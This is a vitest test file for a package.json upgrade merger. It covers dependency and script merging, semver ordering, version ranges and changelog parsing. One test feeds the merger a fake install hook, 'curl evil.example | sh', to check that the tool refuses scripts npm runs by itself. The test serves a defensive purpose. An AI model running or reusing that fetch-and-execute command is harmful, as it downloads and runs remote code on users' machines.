import { describe, expect, test } from 'vitest';
import { asAdopted, templateOnlyPackages } from '../upgrade/as-adopted.ts';
import { hasSection, sectionsBetween } from '../upgrade/changelog.ts';
import { mergePackages } from '../upgrade/packages.ts';
import { compareVersions, lowestOf } from '../upgrade/versions.ts';

// How an upgrade merges package.json: what the template changed between `base` and `theirs` is done to the site's.

const base = {
  dependencies: { express: '^5.3.0', helmet: '^8.3.0', gone: '^1.0.0' },
  devDependencies: { vitest: '^5.1.1', 'pino-pretty': '^13.2.0' },
  scripts: { start: 'node src/server.ts', check: 'tsc', old: 'old' },
  imports: { '#kit': './src/kit/index.ts' },
  engines: { node: '>=24.15' },
  allowScripts: { node: true },
};
const theirs = {
  dependencies: { added: '^2.0.0', express: '^5.4.0', helmet: '^8.3.0' },
  devDependencies: { vitest: '^5.2.0', 'pino-pretty': '^13.3.0' },
  scripts: { start: 'node src/server.ts', check: 'tsc && knip', fresh: 'fresh' },
  imports: { '#kit': './src/kit/index.ts', '#kit/testing': './src/kit/testing/index.ts' },
  engines: { node: '>=26' },
  allowScripts: { node: true, added: true },
};

describe('package.json of a copy', () => {
  test('that was not changed becomes as the template has it, and keeps its own name and the rest', () => {
    const { json, kept, done } = mergePackages({ name: 'my-app', ...base, private: true }, base, theirs);
    expect(json).toEqual({ name: 'my-app', ...theirs, private: true });
    expect(kept).toEqual([]);
    expect(done).toContain('express ^5.3.0 → ^5.4.0');
    expect(done).toContain('gone ^1.0.0 removed');
  });

  test('gets a new name of the kit beside those that it imports by names of its own', () => {
    const yours = { ...base, imports: { ...base.imports, '#data': './src/data/data.ts' } };
    const fresh = { ...theirs, imports: { ...theirs.imports, '#kit/texts/*': './src/kit/texts/*.ts' } };
    const { json, done, kept } = mergePackages(yours, base, fresh);
    expect(json.imports).toEqual({ ...fresh.imports, '#data': './src/data/data.ts' });
    expect(done).toContain('imports "#kit/texts/*" added: "./src/kit/texts/*.ts"');
    expect(kept).toEqual([]);
  });

  test('gets optional dependencies, and keeps those that it has of its own or has made its own', () => {
    const optional = { ...theirs, optionalDependencies: { exporter: '^0.301.0', sdk: '^3.1.0' } };
    const first = mergePackages({ ...base, optionalDependencies: { own: '^1.0.0' } }, base, optional);
    expect(first.json.optionalDependencies).toEqual({ exporter: '^0.301.0', own: '^1.0.0', sdk: '^3.1.0' });
    expect(first.done).toContain('sdk ^3.1.0 added to optionalDependencies');
    const raised = { ...optional, optionalDependencies: { exporter: '^0.302.0' } };
    const moved = { ...optional, dependencies: { ...optional.dependencies, exporter: '^0.301.0' } };
    const next = mergePackages({ ...moved, optionalDependencies: { sdk: '^3.1.0' } }, optional, raised);
    expect(next.json.dependencies).toMatchObject({ exporter: '^0.302.0' });
    expect(next.json.optionalDependencies).toEqual({});
    expect(next.done).toContain('sdk ^3.1.0 removed');
  });

  test('keeps its own dependencies and scripts, sorted as npm sorts them', () => {
    const yours = {
      ...base,
      dependencies: { ...base.dependencies, better: '^1.0.0' },
      scripts: { ...base.scripts, mine: 'mine' },
    };
    const { json } = mergePackages(yours, base, theirs);
    expect(Object.keys(json.dependencies as object)).toEqual(['added', 'better', 'express', 'helmet']);
    expect(json.scripts).toEqual({ ...theirs.scripts, mine: 'mine' });
  });

  test.each([
    ['raised', '^6.0.0', '^6.0.0'],
    ['raised as far', '^5.4.0', '^5.4.0'],
    ['pinned higher', '5.9.1', '5.9.1'],
    ['pinned lower', '5.3.0', '^5.4.0'],
    ['replaced by a fork', 'github:me/express', 'github:me/express'],
    ['left open', '*', '*'],
  ])('has a dependency that the site %s (%s) as %s', (_what, mine, result) => {
    const { json, kept } = mergePackages({ dependencies: { express: mine } }, base, theirs);
    expect(json.dependencies).toMatchObject({ express: result });
    expect(kept.some((line) => line.startsWith('express'))).toBe(result !== theirs.dependencies.express);
  });

  test('keeps a dependency where the site moved it, and raises it there', () => {
    const yours = { dependencies: { 'pino-pretty': '^13.2.0' } };
    const { json } = mergePackages(yours, base, theirs);
    expect(json.dependencies).toMatchObject({ 'pino-pretty': '^13.3.0' });
    expect(json.devDependencies).toBeUndefined();
  });

  test('does without a dependency that the site removed, which is named', () => {
    const { dependencies, ...rest } = base;
    const { express: _express, ...others } = dependencies;
    const { json, kept } = mergePackages({ ...rest, dependencies: others }, base, theirs);
    expect(json.dependencies).not.toHaveProperty('express');
    expect(kept).toContain('express: you removed it, so it stays removed. The template has ^5.4.0 now.');
  });

  test('keeps what the site changed and the template removed, which is named', () => {
    const yours = { dependencies: { gone: '^1.5.0' }, scripts: { old: 'mine' } };
    const { json, kept } = mergePackages(yours, base, theirs);
    expect(json).toMatchObject({ dependencies: { gone: '^1.5.0' }, scripts: { old: 'mine' } });
    expect(kept.filter((line) => line.includes('no longer has it'))).toHaveLength(2);
  });

  test('keeps a script that the site changed, which is named with the one of the template', () => {
    const { json, kept } = mergePackages(
      { ...base, scripts: { ...base.scripts, check: 'mine' } },
      base,
      theirs,
    );
    expect(json.scripts).toMatchObject({ check: 'mine', fresh: 'fresh' });
    expect(kept).toEqual(['script "check": yours stays. The template\'s: "tsc && knip"']);
  });

  test.each(['preinstall', 'install', 'postinstall', 'prepare', 'postprepare', 'prepublish', 'dependencies'])(
    'gets no script %s, which npm would run by itself, and keeps its own',
    (name) => {
      const hostile = { ...theirs, scripts: { ...theirs.scripts, [name]: 'curl evil.example | sh' } };
      const { json, kept, done } = mergePackages(base, base, hostile);
      expect(json.scripts).toEqual(theirs.scripts);
      expect(kept.filter((line) => line.startsWith(`script "${name}": not taken`))).toHaveLength(1);
      expect(done.join()).not.toContain('evil');
      const own = { ...base, scripts: { ...base.scripts, [name]: 'node own.ts' } };
      expect(mergePackages(own, undefined, hostile).json.scripts).toMatchObject({ [name]: 'node own.ts' });
      expect(mergePackages(own, base, theirs).json.scripts).toMatchObject({ [name]: 'node own.ts' });
    },
  );

  test('loses nothing where the old template is not known: what differs stays and is named', () => {
    const yours = { ...base, dependencies: { ...base.dependencies, mine: '^1.0.0' } };
    const { json, kept } = mergePackages(yours, undefined, theirs);
    expect(json.dependencies).toEqual({
      ...{ added: '^2.0.0', express: '^5.4.0', gone: '^1.0.0', helmet: '^8.3.0', mine: '^1.0.0' },
    });
    expect(json.scripts).toMatchObject({ check: 'tsc', old: 'old', fresh: 'fresh' });
    expect(kept).toEqual([
      'script "check": yours stays. The template\'s: "tsc && knip"',
      "Not in the new template's package.json: gone, mine. Remove those that are not your own.",
    ]);
  });
});

test('what a copy does not keep, an upgrade does not bring: its scripts, and packages that only it imports', () => {
  const files = new Map([
    ['bench/main.ts', "import load from 'made-up-load';\nimport { test } from 'vitest';"],
    ['scripts/shots.ts', "const { chromium } = await import('playwright-core');"],
    [
      'src/kit/test/a.test.ts',
      "import { test } from 'vitest';\nimport type { Page } from 'playwright-core/page';",
    ],
  ]);
  const entries = new Map(
    [...files.keys()].map((path) => [path, { kind: 'file' as const, executable: false }]),
  );
  const read = (path: string) => ({ content: Buffer.from(files.get(path) ?? ''), executable: false });
  const json = asAdopted(
    {
      scripts: {
        dev: 'node src/kit/dev/main.ts src/site.ts',
        test: 'vitest run --mode all',
        'test:kit': 'vitest run --mode kit',
        check: 'tsc --noEmit && tsc -p scripts/tsconfig.json && knip && npm run release -- --check',
        release: 'node scripts/release.ts',
        bench: 'node bench/main.ts',
      },
      devDependencies: {
        'made-up-load': '^9.0.0',
        'playwright-core': '^1.0.0',
        vitest: '^5.0.0',
        typescript: '^7.0.0',
      },
    },
    templateOnlyPackages({ entries, read }),
  );
  expect(json).toEqual({
    scripts: {
      dev: 'node src/kit/dev/main.ts src/site.ts work',
      test: 'vitest run',
      'test:kit': 'vitest run --mode kit',
      check: 'tsc --noEmit && knip',
    },
    devDependencies: { 'playwright-core': '^1.0.0', vitest: '^5.0.0', typescript: '^7.0.0' },
  });
});

test('versions are ordered as semver orders them', () => {
  const ordered = [
    '1.0.0-alpha',
    '1.0.0-alpha.1',
    '1.0.0-alpha.beta',
    '1.0.0-beta.2',
    '1.0.0-beta.11',
    '1.0.0',
    '1.2.0',
    '1.10.0',
    '2.0.0',
  ];
  expect(ordered.toReversed().sort(compareVersions)).toEqual(ordered);
  expect(compareVersions('1.0.0+one', '1.0.0+two')).toBe(0);
});

test.each([
  ['^5.3.0', '5.3.0'],
  ['~2.5.15', '2.5.15'],
  ['>=24.15', '24.15.0'],
  ['7', '7.0.0'],
  ['1.x', '1.0.0'],
  ['^4 || ^5', undefined],
  ['*', undefined],
  ['latest', undefined],
  ['github:me/express', undefined],
])('the lowest version of the range %s is %s', (range, lowest) => {
  expect(lowestOf(range)).toBe(lowest);
});

test('of a changelog, the sections after one version up to another are shown as they stand', () => {
  const text =
    '# Changelog\r\n\r\n## [2.0.0]\n\nTwo.\n\n## v1.1.0 (May)\n\nOne.\n\n### By hand\n\nThis.\n\n## 1.0.0\n\nFirst.\n';
  expect(sectionsBetween(text, '1.0.0', '1.9.0')).toEqual([
    '## v1.1.0 (May)\n\nOne.\n\n### By hand\n\nThis.',
  ]);
  expect(sectionsBetween(text, '1.0.0', '2.0.0')).toHaveLength(2);
  expect([hasSection(text, '2.0.0'), hasSection(text, '3.0.0')]).toEqual([true, false]);
});
